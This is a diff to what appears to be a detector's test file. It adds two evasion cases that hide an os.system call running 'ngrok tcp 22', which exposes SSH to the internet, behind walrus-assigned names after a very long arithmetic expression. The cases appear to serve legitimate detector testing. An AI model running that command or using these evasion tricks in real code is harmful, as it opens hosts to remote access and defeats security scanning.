@@ -37,6 +37,10 @@ EVASIONS = [
     ("the call in the middle, inside another call",
      "import os\nx = 1" + " + 1" * 500 + " + len(str(os.system('ngrok tcp 22')))" + " + 1" * 500),
     ("the call in a deep list", "import os\nx = " + "[" * 180 + "os.system('ngrok tcp 22')" + "]" * 180),
+    ("a runner named by a walrus deep in a sum",
+     "import os\nx = 1" + " + 1" * 1000 + " + len([f := os.system])\nf('ngrok tcp 22')"),
+    ("a command named by a walrus deep in a sum",
+     "import os\nx = 1" + " + 1" * 1000 + " + len(c := 'ngrok tcp 22')\nos.system(c)"),
 ]
 
 
